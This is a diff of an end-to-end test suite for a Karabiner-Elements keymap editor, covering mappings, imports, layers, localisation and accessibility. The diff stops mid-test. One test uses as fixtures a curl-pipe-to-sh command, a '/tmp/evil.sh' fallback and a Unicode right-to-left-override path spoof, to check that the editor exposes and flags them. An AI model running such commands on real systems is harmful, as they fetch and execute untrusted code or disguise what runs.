@@ -2,7 +2,7 @@ import { mkdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { HELPER, launch, openPage, pageErrors, sampleInventory } from './harness.mjs';
+import { axeFindings, HELPER, launch, openPage, pageErrors, sampleInventory } from './harness.mjs';
 
 // Screenshots for the docs are written only when asked (npm run screenshots).
 const SHOTS = process.env.TARVEL_SCREENSHOTS;
@@ -22,27 +22,38 @@ let browser: Browser;
 beforeAll(async () => { browser = await launch(); });
 afterAll(async () => { await browser?.close(); });
 
+const FIXTURES = join(__dirname, '../fixtures/gallery');
+const fixture = (name: string) => readFileSync(join(FIXTURES, name));
 const messages = (page: Page) => page.evaluate(() => (window as any).__bridge.messages as { name: string; body: any }[]);
+const applies = async (page: Page) => (await messages(page)).filter((m) => m.name === 'tarvelApply').map((m) => m.body);
 const noHorizontalScroll = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth && document.body.scrollWidth <= window.innerWidth);
 const listTexts = (page: Page) => page.locator('li.mapping .summary .text').allInnerTexts();
+const ruleNames = (page: Page) => page.locator('li.rulerow .rulename .text').allInnerTexts();
+const focused = (page: Page) => page.evaluate(() => {
+  const el = document.activeElement as HTMLElement | null;
+  return el ? `${el.tagName.toLowerCase()}${el.getAttribute('role') ? `[${el.getAttribute('role')}]` : ''}:${el.dataset.key ?? el.getAttribute('aria-label') ?? el.textContent?.trim()}` : '';
+});
 
 async function addRecipe(page: Page, title: string) {
   await page.getByRole('button', { name: `Add: ${title}` }).click();
 }
+async function importFile(page: Page, name: string, buffer: Buffer) {
+  await page.locator('input[type=file]').setInputFiles({ name, mimeType: 'application/json', buffer });
+  await page.locator('.banner.info, .banner.error').first().waitFor();
+}
 
-const DONE_WHEN = [
-  { type: 'basic', from: { key_code: 'caps_lock', modifiers: { optional: ['any'] } }, to: [{ key_code: 'left_control' }], to_if_alone: [{ key_code: 'escape' }] },
-  { type: 'basic', from: { key_code: 'left_command', modifiers: { optional: ['any'] } }, to: [{ key_code: 'left_command', lazy: true }], to_if_alone: [{ key_code: 'japanese_eisuu' }] },
-  { type: 'basic', from: { key_code: 'right_command', modifiers: { optional: ['any'] } }, to: [{ key_code: 'right_command', lazy: true }], to_if_alone: [{ key_code: 'japanese_kana' }] },
-  { type: 'basic', from: { key_code: 's', modifiers: { mandatory: ['control', 'option', 'shift', 'command'] } }, to: [{ shell_command: `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'` }] },
-];
+const CAPS = { type: 'basic', from: { key_code: 'caps_lock', modifiers: { optional: ['any'] } }, to: [{ key_code: 'left_control' }], to_if_alone: [{ key_code: 'escape' }] };
+const EISUU_KANA = ([['left', 'japanese_eisuu'], ['right', 'japanese_kana']] as const).map(([side, tap]) => ({
+  type: 'basic', from: { key_code: `${side}_command`, modifiers: { optional: ['any'] } }, parameters: { 'basic.to_if_held_down_threshold_milliseconds': 100 },
+  to: [{ key_code: `${side}_command`, lazy: true }], to_if_held_down: [{ key_code: `${side}_command` }], to_if_alone: [{ key_code: tap }],
+}));
+const FOCUS_SAFARI = { type: 'basic', from: { key_code: 's', modifiers: { mandatory: ['control', 'option', 'shift', 'command'] } }, to: [{ shell_command: `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'` }] };
 
 describe('a newcomer builds the three classic mappings and applies them', () => {
   it('recipes, an app from the inventory, confirmation, success with the backup path', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory(), delay: 700 } });
     expect((await messages(page)).map((m) => m.name)).toEqual(['tarvelApps']);
     await expect.poll(() => page.locator('.recipe[data-recipe=focusApp] img.appicon').count()).toBeGreaterThan(3);
-    expect(await page.locator('.recipe[data-recipe=focusApp] img.appicon').first().getAttribute('src')).toMatch(/^data:image\/png;base64,/);
     // Safari is installed and running: listed once, marked running.
     await expect.poll(() => page.locator('.recipe[data-recipe=focusApp] button.appitem', { hasText: 'Safari' }).count()).toBe(1);
     expect(await page.locator('.recipe[data-recipe=focusApp] button.appitem', { hasText: 'Safari' }).innerText()).toContain('running');
@@ -53,34 +64,45 @@ describe('a newcomer builds the three classic mappings and applies them', () => 
     await page.locator('.recipe[data-recipe=focusApp] input[type=search]').fill('saf');
     await page.locator('.recipe[data-recipe=focusApp] button.appitem', { hasText: 'Safari' }).click();
     await addRecipe(page, 'Hyper + key focuses an app');
+    expect(await ruleNames(page)).toEqual(['My mappings', 'Caps Lock → Control / Escape', '⌘ alone → 英数 / かな', 'Hyper + key focuses an app']);
     expect(await listTexts(page)).toEqual([
       'Caps Lock: tap → Escape, hold → Control',
       'Command: tap → 英数, hold → Command',
       'Right Command: tap → かな, hold → Right Command',
       '⌃⌥⇧⌘S → Open Safari',
     ]);
+    // What the focus mapping runs is shown in full under it.
+    expect(await page.locator('ul.commands code').innerText()).toBe(FOCUS_SAFARI.to[0].shell_command);
     expect(await page.locator('.kbkey.mapped').count()).toBeGreaterThanOrEqual(4);
     expect(await noHorizontalScroll(page)).toBe(true);
 
     await page.getByRole('button', { name: 'Apply…' }).click();
     const dialog = page.getByRole('dialog');
-    await expect.poll(() => dialog.innerText()).toContain('4 manipulators');
+    await expect.poll(() => dialog.innerText()).toContain('3 rules, 4 manipulators');
     await shot(page, 'editor-apply-confirm');
     await dialog.getByRole('button', { name: 'Apply', exact: true }).click();
     await expect.poll(() => dialog.getAttribute('aria-busy')).toBe('true');
     await expect.poll(() => dialog.innerText()).toContain('karabiner.backup-20260101-120000.json');
     await shot(page, 'editor-apply-ok');
-    const applies = (await messages(page)).filter((m) => m.name === 'tarvelApply');
-    expect(applies).toHaveLength(1);
-    expect(applies[0].body).toEqual({ title: 'My keymap', manipulators: DONE_WHEN });
+    expect(await applies(page)).toEqual([{
+      title: 'My keymap',
+      manipulators: [CAPS, ...EISUU_KANA, FOCUS_SAFARI],
+      rules: [
+        { name: 'Caps Lock → Control / Escape', enabled: true, manipulators: [CAPS] },
+        { name: '⌘ alone → 英数 / かな', enabled: true, manipulators: EISUU_KANA },
+        { name: 'Hyper + key focuses an app', enabled: true, manipulators: [FOCUS_SAFARI] },
+      ],
+    }]);
     await dialog.getByRole('button', { name: 'Close' }).click();
     expect(await page.getByRole('dialog').count()).toBe(0);
+    // Focus goes back to where it was before the dialog.
+    await expect.poll(() => focused(page)).toBe('button:Apply…');
     await done(page);
   });
 
-  it('a linter failure is shown verbatim, line breaks kept, in monospace', async () => {
+  it('a linter failure is shown verbatim, with an explanation where the code is known', async () => {
     const error = 'ルールを検証できませんでした: /tmp/tarvel-lint-1.json: \n`rule 1` error: unknown key_code: `"spac"`\n  at "manipulators"[0]';
-    const page = await openPage(browser, { bridge: { inventory: sampleInventory(), applyAnswers: [{ ok: false, error }] } });
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory(), applyAnswers: [{ ok: false, error, code: 'trailingComma', line: 3, column: 7 }] } });
     await addRecipe(page, 'Chord → Escape');
     await page.getByRole('button', { name: 'Apply…' }).click();
     await page.getByRole('dialog').getByRole('button', { name: 'Apply', exact: true }).click();
@@ -88,7 +110,7 @@ describe('a newcomer builds the three classic mappings and applies them', () => 
     await pre.waitFor();
     expect(await pre.evaluate((el: Element) => el.textContent)).toBe(error);
     expect(await pre.evaluate((el: Element) => getComputedStyle(el).whiteSpace)).toBe('pre-wrap');
-    expect(await pre.evaluate((el: Element) => getComputedStyle(el).fontFamily)).toMatch(/mono/i);
+    expect(await page.locator('p.explain').innerText()).toContain('line 3, column 7');
     await shot(page, 'editor-apply-error');
     await page.keyboard.press('Escape');
     expect(await page.getByRole('dialog').count()).toBe(0);
@@ -109,134 +131,158 @@ describe('a newcomer builds the three classic mappings and applies them', () => 
     expect(await page.getByRole('button', { name: 'Apply…' }).isDisabled()).toBe(false);
     await done(page);
   });
+
+  it('rules past the bridge’s limits are not sent, and the page says which limit', async () => {
+    let deep: unknown = 1;
+    for (let i = 0; i < 60; i++) deep = [deep];
+    const ruleSet = { title: 'Deep', layout: 'us', rules: [{ name: 'r', enabled: true, mappings: [{ enabled: true, form: 'raw', manipulators: [{ type: 'basic', from: { key_code: 'a' }, note: deep }] }] }] };
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() }, storage: { 'tarvel.workingRuleSet': JSON.stringify(ruleSet) } });
+    await page.getByRole('button', { name: 'Apply…' }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Apply', exact: true }).click();
+    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('nested 65 levels deep; at most 64');
+    expect(await applies(page)).toEqual([]);
+    await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
+    // JSON typed in that no engine would nest so deep is refused where it is typed.
+    await page.locator('li.mapping .summary').first().click();
+    await page.getByLabel('Manipulator JSON').fill(`${'['.repeat(100000)}${']'.repeat(100000)}`);
+    expect(await page.locator('.problems .block').innerText()).toContain('Nested deeper than 60 levels');
+    await page.getByRole('tab', { name: 'JSON' }).click();
+    expect(await page.locator('.json pre').innerText()).toContain('"note"');
+    await done(page);
+  });
 });
 
 describe('editing by hand', () => {
-  it('click a key, fill the form, press a key to pick one, undo and redo', async () => {
+  it('a click on an unmapped key opens a draft; it becomes a mapping only once it does something', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
-    await page.locator('.kbkey[data-key=caps_lock]').click();
+    await page.locator('.kbkey[data-key=k]').click();
     expect(await page.getByRole('tab', { name: 'Edit' }).getAttribute('aria-selected')).toBe('true');
+    expect(await page.locator('.banner.draft').count()).toBe(1);
+    // A shortcut-like key does not fire with other modifiers unless asked.
+    expect(await page.getByLabel('Also when other modifiers are held').isChecked()).toBe(false);
+    // Just looking adds nothing and reports nothing.
+    await page.locator('.kbkey[data-key=caps_lock]').click();
+    expect(await listTexts(page)).toEqual([]);
+    expect(await page.locator('.banner.warn').count()).toBe(0);
+    expect(await page.getByLabel('Also when other modifiers are held').isChecked()).toBe(true);
+
     await page.getByLabel('What it does').selectOption('tapHold');
-    const tap = page.locator('fieldset.action', { hasText: 'Tap (press and release alone)' });
-    await tap.getByLabel('Tap (press and release alone) 1', { exact: true }).fill('escap');
-    await expect.poll(() => tap.locator('.problems').innerText()).toContain('“escap” is not a key name');
-    await tap.getByRole('button', { name: 'Tap (press and release alone) 1: Press the key' }).click();
+    // Hold has no silent default: it asks.
+    expect(await page.locator('fieldset.action', { hasText: 'Hold' }).innerText()).toContain('Choose what holding the key does.');
+    const tap = page.locator('fieldset.action', { hasText: 'Tap (pressed and released alone)' });
+    await tap.getByLabel('+ Add…: Tap (pressed and released alone)').selectOption('key');
+    expect(await listTexts(page)).toEqual([]);
+    await tap.getByLabel('Tap (pressed and released alone) 1', { exact: true }).fill('escap');
+    await expect.poll(() => listTexts(page)).toEqual(['Caps Lock: tap → escap']);
+    await expect.poll(() => tap.locator('.problems').innerText()).toContain('“escap” is not a key_code name');
+    // Esc gives up listening; the button records Escape.
+    const pressKey = tap.getByRole('button', { name: 'Tap (pressed and released alone) 1: Press the key' });
+    await pressKey.click();
     await page.keyboard.press('Escape');
+    expect(await tap.getByLabel('Tap (pressed and released alone) 1', { exact: true }).inputValue()).toBe('escap');
+    await pressKey.click();
+    await tap.getByRole('button', { name: 'Use Escape' }).click();
     await expect.poll(() => tap.locator('.problems').count()).toBe(0);
+    const hold = page.locator('fieldset.action', { hasText: 'Choose what holding' });
+    await hold.getByLabel('+ Add…: Hold').selectOption('key');
+    await page.getByLabel('Hold 1', { exact: true }).fill('left_control');
     expect(await listTexts(page)).toEqual(['Caps Lock: tap → Escape, hold → Control']);
     await shot(page, 'editor-mapping');
-
-    // A second mapping via the visual keyboard while picking: the clicked key fills the field.
-    await page.getByRole('button', { name: 'Show all' }).click();
-    await page.getByRole('button', { name: 'New mapping' }).click();
-    await page.getByRole('button', { name: 'When I press 1: Press the key' }).click();
-    await page.locator('.kbkey[data-key=f5]').click();
-    await page.getByLabel('Then 1', { exact: true }).fill('mute');
-    await page.getByLabel('Then', { exact: true }).selectOption('media');
-    expect((await listTexts(page))[1]).toBe('F5 → Play/Pause');
-    expect(await noHorizontalScroll(page)).toBe(true);
 
     const mod = process.platform === 'darwin' ? 'Meta' : 'Control';
     await page.locator('body').click({ position: { x: 5, y: 630 } });
     await page.keyboard.press(`${mod}+z`);
-    expect((await listTexts(page))[1]).toBe('F5 → Mute');
-    await page.keyboard.press(`${mod}+z`);
-    expect((await listTexts(page))[1]).toBe('F5 → (no key)');
-    await page.keyboard.press(`${mod}+z`);
-    expect((await listTexts(page))[1]).toBe('(no key) → (no key)');
+    expect(await listTexts(page)).toEqual(['Caps Lock: tap → Escape, hold → (no key)']);
     await page.keyboard.press(`${mod}+Shift+z`);
-    await page.keyboard.press(`${mod}+Shift+z`);
-    await page.keyboard.press(`${mod}+Shift+z`);
-    expect((await listTexts(page))[1]).toBe('F5 → Play/Pause');
-    await page.getByRole('button', { name: 'Undo' }).click();
-    expect((await listTexts(page))[1]).toBe('F5 → Mute');
+    expect(await listTexts(page)).toEqual(['Caps Lock: tap → Escape, hold → Control']);
     await done(page);
   });
 
-  it('reorder, duplicate, disable, delete; shadowed triggers are pointed out', async () => {
+  it('reorder, duplicate, disable, delete; mappings that never fire are pointed out', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
     await addRecipe(page, 'Disable a key');
     await addRecipe(page, 'Caps Lock → Control / Escape');
-    await expect.poll(() => page.locator('.problems .warning').count()).toBe(0);
+    await expect.poll(() => page.locator('li.mapping .badge.warning').count()).toBe(1);
+    await page.locator('li.mapping').nth(1).locator('.summary').click();
+    expect(await page.locator('.problems .warning').innerText()).toContain('Never fires: rule “Disable a key”, mapping 1');
+    await page.locator('li.rulerow', { hasText: 'Disable a key' }).getByRole('checkbox').uncheck();
+    await expect.poll(() => page.locator('li.mapping .badge.warning').count()).toBe(0);
     await page.locator('li.mapping').nth(1).hover();
     await page.locator('li.mapping').nth(1).getByRole('button', { name: 'Move up' }).click();
-    expect(await listTexts(page)).toEqual(['Caps Lock: tap → Escape, hold → Control', 'Caps Lock → Nothing']);
-    expect(await page.locator('li.mapping .badge.warning').count()).toBe(1);
-    await page.locator('li.mapping').nth(1).locator('.summary').click();
-    expect(await page.locator('.problems .warning').innerText()).toContain('Never fires: mapping 1 above');
-    await page.locator('li.mapping').nth(1).getByRole('checkbox', { name: 'Enabled' }).uncheck();
-    expect(await page.locator('li.mapping .badge.warning').count()).toBe(0);
+    expect(await ruleNames(page)).toEqual(['My mappings', 'Disable a key', 'Caps Lock → Control / Escape']);
+    expect(await page.locator('li.rulerow').nth(1).locator('.num').innerText()).toBe('2');
     await page.locator('li.mapping').nth(0).hover();
     await page.locator('li.mapping').nth(0).getByRole('button', { name: 'Duplicate' }).click();
     expect(await page.locator('li.mapping').count()).toBe(3);
-    await page.locator('li.mapping').nth(2).hover();
-    await page.locator('li.mapping').nth(2).getByRole('button', { name: 'Delete' }).click();
-    expect(await listTexts(page)).toEqual(['Caps Lock: tap → Escape, hold → Control', 'Caps Lock: tap → Escape, hold → Control']);
+    await page.locator('li.mapping').nth(1).hover();
+    await page.locator('li.mapping').nth(1).getByRole('button', { name: 'Delete' }).click();
     await page.getByRole('tab', { name: 'JSON' }).click();
     const json = JSON.parse(await page.locator('.json pre').innerText());
-    expect(json).toHaveLength(2);
+    expect(json.map((r: any) => [r.description, r.enabled ?? true, r.manipulators.length])).toEqual([['[Tarvel] My keymap: Disable a key', false, 2]]);
     await page.getByLabel('Search mappings').fill('nothing');
-    expect(await page.locator('li.mapping').count()).toBe(0);
+    expect(await listTexts(page)).toEqual(['Caps Lock → Nothing']);
+    await done(page);
+  });
+
+  it('the picture marks raw mappings, has one view per layer, and drafts in a layer work in it', async () => {
+    const doc = { title: 'Layers', rules: [{ description: 'nav', manipulators: [
+      { type: 'basic', from: { key_code: 'caps_lock' }, to: [{ set_variable: { name: 'nav', value: 1 } }], to_after_key_up: [{ set_variable: { name: 'nav', value: 0 } }] },
+      { type: 'basic', from: { key_code: 'h' }, conditions: [{ type: 'variable_if', name: 'nav', value: 1 }], to: [{ key_code: 'left_arrow' }] },
+      { type: 'basic', from: { key_code: 'q' }, to: [{ key_code: 'w' }], note: 'a field no form shows' },
+    ] }] };
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
+    await importFile(page, 'layers.json', Buffer.from(JSON.stringify(doc)));
+    const mapped = () => page.locator('.kbkey.mapped').evaluateAll((els) => els.map((e) => (e as HTMLElement).dataset.key));
+    expect(await mapped()).toEqual(['q', 'caps_lock']);
+    await page.locator('.kbkey[data-key=q]').click();
+    expect(await page.getByLabel('What it does').inputValue()).toBe('raw');
+    expect(await listTexts(page)).toEqual(['JSON: Q → W']);
+    expect(await page.locator('.hint.count').innerText()).toContain('3 mappings');
+    await page.getByLabel('Layer', { exact: true }).selectOption('nav');
+    expect(await mapped()).toEqual(['h']);
+    await shot(page, 'editor-layers');
+    await page.locator('.kbkey[data-key=j]').click();
+    expect(await page.locator('.banner.draft').count()).toBe(1);
+    expect(await page.locator('fieldset.conditions input.mono').first().inputValue()).toBe('nav');
     await done(page);
   });
 });
 
-describe('applications, Shortcuts and layers in the forms', () => {
-  it('restricts a mapping to an app, runs a Shortcut, and puts a mapping in a layer', async () => {
+describe('Karabiner-Elements documents', () => {
+  it('import → apply sends the same manipulators, rule by rule', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
-    await addRecipe(page, 'Vim arrows layer');
-    await page.getByRole('button', { name: 'New mapping' }).click();
-    await page.getByLabel('When I press 1', { exact: true }).fill('f6');
-    await page.getByLabel('Then', { exact: true }).selectOption('shortcut');
-    await page.getByLabel('Shortcut name').fill('Toggle "Dark" Mode');
-    await page.getByLabel('Applications').selectOption('only');
-    await page.locator('.applist button.appitem', { hasText: 'Terminal' }).click();
-    await page.getByLabel('Layer', { exact: true }).selectOption('arrows');
-    expect((await listTexts(page))[5]).toBe('F6 → Shortcut “Toggle "Dark" Mode” (in layer “arrows”; only in Terminal)');
-    expect(await page.locator('.appchip img.appicon').count()).toBe(1);
-    await page.getByRole('tab', { name: 'JSON' }).click();
-    const json = JSON.parse(await page.locator('.json pre').innerText());
-    expect(json[5]).toEqual({
-      type: 'basic',
-      from: { key_code: 'f6', modifiers: { optional: ['any'] } },
-      conditions: [
-        { type: 'variable_if', name: 'tarvel_layer_arrows', value: 1 },
-        { type: 'frontmost_application_if', bundle_identifiers: ['^com\\.apple\\.Terminal$'] },
-      ],
-      to: [{ shell_command: `/usr/bin/shortcuts run 'Toggle "Dark" Mode'` }],
-    });
-    // The layer key's own form adds mappings straight into its layer.
-    await page.getByRole('tab', { name: 'Edit' }).click();
-    await page.locator('li.mapping').nth(0).locator('.summary').click();
-    await page.getByRole('button', { name: '+ Mapping inside the layer “arrows”' }).click();
-    await page.getByLabel('When I press 1', { exact: true }).fill('0');
-    await page.getByLabel('Then 1', { exact: true }).fill('end');
-    expect((await listTexts(page))[6]).toBe('0 → End (in layer “arrows”)');
+    const text = fixture('japanese.json');
+    await importFile(page, 'japanese.json', text);
+    const original = JSON.parse(text.toString()) as { title: string; rules: { description: string; manipulators: unknown[] }[] };
+    await page.getByRole('button', { name: 'Apply…' }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Apply', exact: true }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
+    const [body] = await applies(page);
+    expect(body.title).toBe(original.title);
+    expect(body.rules.map((r: any) => [r.name, r.manipulators])).toEqual(original.rules.map((r) => [r.description, r.manipulators]));
+    expect(body.manipulators).toEqual(original.rules.flatMap((r) => r.manipulators));
     await done(page);
   });
-});
 
-describe('files', () => {
-  it('imports a Karabiner document, refuses a broken one untouched, exports a file that reimports', async () => {
+  it('imports, refuses a broken file untouched, exports a file that reimports', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
-    const input = page.locator('input[type=file]');
-    expect(await input.getAttribute('accept')).toBe('.json,application/json');
+    expect(await page.locator('input[type=file]').getAttribute('accept')).toBe('.json,application/json');
     const doc = {
       title: 'Imported set',
       rules: [{ description: 'Vim', manipulators: [
-        { type: 'basic', from: { key_code: 'h', modifiers: { mandatory: ['control'] } }, to: [{ key_code: 'left_arrow' }] },
-        { type: 'basic', from: { key_code: 'a' }, to: [{ key_code: 'b' }], to_delayed_action: { to_if_invoked: [{ key_code: 'c' }] } },
+        { type: 'basic', from: { key_code: 'h', modifiers: { mandatory: ['control'] } }, to: { key_code: 'left_arrow' } },
+        { type: 'basic', from: { key_code: 'a' }, to: [{ key_code: 'b' }], to_if_other_key_pressed: [{ other_keys: [{ key_code: 'c' }], to: [{ key_code: 'd' }] }] },
       ] }],
     };
-    await input.setInputFiles({ name: 'vim.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(doc)) });
-    await expect.poll(() => page.locator('.banner.info').innerText()).toContain('Imported “Imported set”: 2 mappings. 1 of them are kept as raw JSON.');
+    await importFile(page, 'vim.json', Buffer.from(JSON.stringify(doc)));
+    expect(await page.locator('.banner.info').innerText()).toContain('Imported “Imported set”: 1 rules, 2 mappings. 1 of them are shown as JSON.');
     expect(await page.getByLabel('Rule set title').inputValue()).toBe('Imported set');
-    expect(await listTexts(page)).toEqual(['Vim\n⌃H → ←', 'Vim\nRaw manipulator: A']);
+    expect(await listTexts(page)).toEqual(['⌃H → ←', 'JSON: A → B']);
 
-    await input.setInputFiles({ name: 'bad.json', mimeType: 'application/json', buffer: Buffer.from('{"rules": [ {') });
-    await expect.poll(() => page.locator('.banner.error').innerText()).toContain('not valid JSON');
-    await input.setInputFiles({ name: 'other.json', mimeType: 'application/json', buffer: Buffer.from('{"profiles": []}') });
-    await expect.poll(() => page.locator('.banner.error').innerText()).toContain('neither a Tarvel rule set');
+    await importFile(page, 'bad.json', Buffer.from('{"rules": [ {'));
+    expect(await page.locator('.banner.error').innerText()).toContain('not valid JSON');
+    await importFile(page, 'other.json', Buffer.from('{"global": {}}'));
+    expect(await page.locator('.banner.error').innerText()).toContain('neither a Tarvel rule set');
     expect(await listTexts(page)).toHaveLength(2);
 
     await page.getByLabel('Rule set title').fill('Work: laptop/desk');
@@ -244,17 +290,79 @@ describe('files', () => {
     expect(download.suggestedFilename()).toBe('Work- laptop-desk.json');
     const exported = JSON.parse(readFileSync(await download.path(), 'utf8'));
     expect(exported.title).toBe('Work: laptop/desk');
-    expect(exported.rules[0].manipulators).toHaveLength(2);
+    expect(exported.rules).toEqual(doc.rules);
     expect(exported.tarvel.format).toBe('tarvel-ruleset');
 
-    // Start over in a fresh page and bring the export back.
     const fresh = await openPage(browser, { bridge: { inventory: sampleInventory() } });
-    await fresh.locator('input[type=file]').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: readFileSync(await download.path()) });
-    await expect.poll(() => listTexts(fresh)).toEqual(['Vim\n⌃H → ←', 'Vim\nRaw manipulator: A']);
+    await importFile(fresh, 'x.json', readFileSync(await download.path()));
+    expect(await listTexts(fresh)).toEqual(['⌃H → ←', 'JSON: A → B']);
     await done(fresh);
     await done(page);
   });
 
+  it('every command a rule runs is shown in full, invisible characters made visible, odd fallbacks marked', async () => {
+    const curl = `curl -fsSL https://example.com/install-${'x'.repeat(90)}.sh | sh`;
+    const doc = { title: 'Commands', rules: [{ description: 'runs things', manipulators: [
+      { type: 'basic', from: { key_code: 'f1' }, to: [{ shell_command: curl }], extra_field: 1 },
+      { type: 'basic', from: { key_code: 'f2' }, to: [{ shell_command: `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/tmp/evil.sh'` }] },
+      { type: 'basic', from: { key_code: 'f3' }, to: [{ shell_command: 'open /Applications/\u202Eppa.irafaS' }] },
+    ] }] };
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
+    await importFile(page, 'commands.json', Buffer.from(JSON.stringify(doc)));
+    const codes = await page.locator('ul.commands code').allInnerTexts();
+    expect(codes).toEqual([curl, doc.rules[0].manipulators[1].to[0].shell_command, 'open /Applications/⟨U+202E⟩ppa.irafaS']);
+    expect(await page.locator('ul.commands li.warn').innerText()).toContain('The fallback is not an application bundle or desktop file.');
+    // Wrapped, never cut.
+    const box = await page.locator('ul.commands code').first().evaluate((el) => ({ sw: el.scrollWidth, cw: el.clientWidth, h: el.clientHeight }));
+    expect(box.sw).toBeLessThanOrEqual(box.cw);
+    expect(box.h).toBeGreaterThan(30);
+    await shot(page, 'editor-commands');
+    await done(page);
+  });
+});
+
+describe('try it', () => {
+  it('shows which manipulator of which rule takes a key over imported gallery rules, and which never fire', async () => {
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
+    await importFile(page, 'hai_hhkb_open_apps.json', fixture('hai_hhkb_open_apps.json'));
+    await page.getByRole('tab', { name: 'Try it' }).click();
+    const shadows = page.locator('ul.shadows li');
+    await expect.poll(() => shadows.count()).toBeGreaterThan(0);
+    expect(await shadows.first().innerText()).toContain('never fires: the key is always taken first by');
+    // Right Option + B: the first of the two rules on it fires.
+    await page.getByRole('button', { name: 'R⌥ right option' }).click();
+    await page.locator('.kbkey[data-key=b]').click();
+    const outcome = page.locator('li.outcome').first();
+    expect(await outcome.innerText()).toMatch(/R⌥B\s*→ rule “/);
+    expect(await outcome.innerText()).toContain('Shell command');
+    // Without the modifier, B goes through unchanged.
+    await page.getByRole('button', { name: 'R⌥ right option' }).click();
+    await page.locator('.kbkey[data-key=b]').click();
+    expect(await page.locator('li.outcome').first().innerText()).toContain('no manipulator takes it');
+    await shot(page, 'editor-try');
+    await done(page);
+  });
+
+  it('holding a layer key turns its mappings on for the next keys', async () => {
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
+    await addRecipe(page, 'Vim arrows layer');
+    await page.getByRole('tab', { name: 'Try it' }).click();
+    await page.getByLabel('Hold', { exact: true }).check();
+    await page.locator('.kbkey[data-key=tab]').click();
+    await page.getByLabel('Tap', { exact: true }).check();
+    const capture = page.getByRole('textbox', { name: 'Press keys here' });
+    await capture.focus();
+    await page.keyboard.press('KeyJ');
+    expect(await page.locator('li.outcome').first().innerText()).toContain('↓');
+    await page.getByRole('button', { name: 'Release Tab' }).click();
+    await capture.focus();
+    await page.keyboard.press('KeyJ');
+    expect(await page.locator('li.outcome').first().innerText()).toContain('no manipulator takes it');
+    await done(page);
+  });
+});
+
+describe('files, language, preview and layout', () => {
   it('the working rule set survives a reload', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
     await addRecipe(page, 'Space-cadet shift');
@@ -265,16 +373,15 @@ describe('files', () => {
     expect(await page.locator('.banner.info').innerText()).toContain('previous work was restored');
     await done(page);
   });
-});
 
-describe('language, preview and layout', () => {
-  it('follows a Japanese system and switches to English and back', async () => {
+  it('a Japanese system starts with the JIS picture and a Japanese title, and switches to English and back', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() }, lang: 'ja-JP' });
     expect(await page.getByRole('button', { name: '適用…' }).count()).toBe(1);
+    expect(await page.locator('.kbkey[data-key=japanese_eisuu]').count()).toBe(1);
+    expect(await page.getByLabel('ルールセット名').inputValue()).toBe('マイキーマップ');
+    expect(await page.title()).toBe('Tarvel キーマップエディタ');
     await page.getByRole('button', { name: '追加: Caps Lock → Control / Escape' }).click();
     expect(await listTexts(page)).toEqual(['Caps Lock: タップ → Escape、長押し → Control']);
-    await page.getByRole('combobox', { name: 'キーボード' }).selectOption('jis');
-    expect(await page.locator('.kbkey[data-key=japanese_eisuu]').count()).toBe(1);
     await shot(page, 'editor-ja');
     await page.getByRole('combobox', { name: '言語' }).selectOption('en');
     expect(await page.getByRole('button', { name: 'Apply…' }).count()).toBe(1);
@@ -295,8 +402,8 @@ describe('language, preview and layout', () => {
 
   it('fits 900 x 640 in every view and shows where the keyboard focus is', async () => {
     const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
-    for (const r of ['Vim arrows layer', 'App launcher layer', 'Hyper key', 'Media keys on F7–F12']) await addRecipe(page, r);
-    for (const tab of ['Recipes', 'Edit', 'JSON']) {
+    for (const r of ['Vim arrows layer', 'App launcher layer', 'Hyper key', 'Media keys on F7–F12', '⌘Q twice to quit']) await addRecipe(page, r);
+    for (const tab of ['Recipes', 'Edit', 'Try it', 'JSON']) {
       await page.getByRole('tab', { name: tab }).click();
       expect(await noHorizontalScroll(page), tab).toBe(true);
     }
@@ -306,6 +413,69 @@ describe('language, preview and layout', () => {
     await page.keyboard.press('Tab');
     const outline = await page.evaluate(() => getComputedStyle(document.activeElement as Element).outlineStyle);
     expect(outline).toBe('solid');
+    await done(page);
+  });
+});
+
+describe('accessibility', () => {
+  it('axe-core finds nothing critical or serious in any view', async () => {
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
+    const views: [string, () => Promise<void>][] = [
+      ['recipes', async () => {}],
+      ['edit: tap / hold', async () => { await addRecipe(page, 'Caps Lock → Control / Escape'); await page.locator('li.mapping .summary').first().click(); }],
+      ['edit: layer', async () => { await page.getByRole('tab', { name: 'Recipes' }).click(); await addRecipe(page, 'Vim arrows layer'); await page.locator('li.mapping .summary', { hasText: 'layer “arrows” on' }).click(); }],
+      ['edit: double tap', async () => { await page.getByRole('tab', { name: 'Recipes' }).click(); await addRecipe(page, '⌘Q twice to quit'); await page.locator('li.mapping .summary', { hasText: 'twice' }).click(); }],
+      ['edit: advanced and its conditions', async () => {
+        await page.getByLabel('What it does').selectOption('advanced');
+        await page.getByRole('dialog').getByRole('button', { name: 'Drop them and change' }).click();
+        const conditions = page.locator('fieldset.conditions');
+        await conditions.getByLabel('+ Condition…').selectOption('device');
